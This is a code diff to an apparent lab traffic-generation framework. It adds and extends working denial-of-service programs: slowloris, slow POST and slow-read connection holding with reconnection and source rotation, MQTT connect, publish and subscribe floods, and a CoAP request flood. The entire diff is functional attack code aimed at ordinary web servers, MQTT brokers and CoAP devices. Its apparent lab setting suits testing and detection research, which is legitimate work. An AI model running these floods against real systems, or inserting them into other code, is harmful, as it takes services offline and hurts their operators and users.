@@ -5,8 +5,8 @@ import contextlib
 
 from train.lab import sockets
 from train.lab.actor import Actor
-from train.lab.plan import Job
-from train.lab.programs.mqtt import connect_packet, publish_packet
+from train.lab.plan import Job, Params
+from train.lab.programs.mqtt import connect_packet, publish_packet, subscribe_packet
 from train.lab.programs.web import fetch
 from train.lab.registry import program
 
@@ -71,23 +71,42 @@ async def slowhttptest(me: Actor, job: Job) -> None:
     await me.tool(*argv, "-u", f"http://{p['target']}:{p['port']}/")
 
 
+_SLOW_BYTES = 2048
+_FIRST = {
+    "headers": b"GET / HTTP/1.1\r\nHost: d\r\n",
+    "body": b"POST / HTTP/1.1\r\nHost: d\r\nContent-Length: 100000\r\n\r\n",
+    "read": b"GET /b/5000000 HTTP/1.1\r\nHost: d\r\n\r\n",
+}
+
+
+async def _drip(me: Actor, p: Params, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    """Keep one connection busy until the victim ends it."""
+    writer.write(_FIRST[p["mode"]])
+    while True:
+        await asyncio.sleep(p["interval"] * me.rng.uniform(0.7, 1.3))
+        if p["mode"] == "read":
+            await reader.readexactly(500)
+            continue
+        writer.write(b"x" if p["mode"] == "body" else f"X-{me.rng.randint(1, 5000)}: b\r\n".encode())
+        await writer.drain()
+
+
 @program
 async def slow_drip(me: Actor, job: Job) -> None:
-    """Our own slowloris and slow POST: hold `connections`, a few bytes on each every `interval` seconds."""
+    """Slowloris, slow POST and slow read: hold `connections`, a little on each every `interval` s."""
     p = job.params
-    first = "GET / HTTP/1.1\r\nHost: d\r\n"
-    if p["post"]:
-        first = "POST / HTTP/1.1\r\nHost: d\r\nContent-Length: 100000\r\n\r\n"
 
     async def one(number: int) -> None:
         source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
-        with contextlib.suppress(*_Broken):
-            async with sockets.connection(p["target"], p["port"], source=source) as (_, writer):
-                writer.write(first.encode())
-                while True:
-                    await asyncio.sleep(p["interval"] * me.rng.uniform(0.7, 1.3))
-                    writer.write(b"x" if p["post"] else f"X-{me.rng.randint(1, 5000)}: b\r\n".encode())
-                    await writer.drain()
+        small = _SLOW_BYTES if p["mode"] == "read" else None
+        while True:
+            with contextlib.suppress(*_Broken):
+                async with sockets.connection(p["target"], p["port"], source=source, buffer_bytes=small) as (
+                    reader,
+                    writer,
+                ):
+                    await _drip(me, p, reader, writer)
+            await asyncio.sleep(p["interval"])
 
     async with asyncio.TaskGroup() as group:
         async for number in me.paced(p["rate"], count=p["connections"]):
@@ -96,7 +115,7 @@ async def slow_drip(me: Actor, job: Job) -> None:
 
 @program
 async def mqtt_flood(me: Actor, job: Job) -> None:
-    """MQTT `mode` connect: connections without end. `mode` publish: messages without end on a few."""
+    """MQTT `mode` connect: connections without end. `publish`, `subscribe`: packets without end on a few."""
     p = job.params
     limit = asyncio.Semaphore(p["parallel"])
 
@@ -119,13 +138,14 @@ async def mqtt_flood(me: Actor, job: Job) -> None:
                 async for turn in me.paced(
                     p["rate"] / p["parallel"], shape=shape, count=p["count"] // p["parallel"]
                 ):
-                    writer.write(
-                        publish_packet("home/x", bytes(p["bytes"]), qos=p.get("qos", 0), number=turn)
-                    )
+                    if p["mode"] == "subscribe":
+                        writer.write(subscribe_packet(f"x{turn}", number=turn))
+                    else:
+                        writer.write(publish_packet("home/x", bytes(p["bytes"]), qos=p["qos"], number=turn))
                     await writer.drain()
 
     async with asyncio.TaskGroup() as group:
-        if p["mode"] == "publish":
+        if p["mode"] != "connect":
             for number in range(p["parallel"]):
                 group.create_task(publish(number))
             return
@@ -138,7 +158,10 @@ async def coap_flood(me: Actor, job: Job) -> None:
     """CoAP GETs from ordinary sockets, `flows` source ports; the victim answers each."""
     p = job.params
     sources = p.get("sources") or [None]
-    socks = [sockets.datagram(p["target"], source=sources[n % len(sources)]) for n in range(p["flows"])]
+    socks = [
+        sockets.datagram(p["target"], source=sources[n % len(sources)])
+        for n in range(max(p["flows"], len(sources)))
+    ]
     try:
         async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
             message = b"\x40\x01" + (number & 0xFFFF).to_bytes(2, "big") + b"\xbb.well-known\x04core"
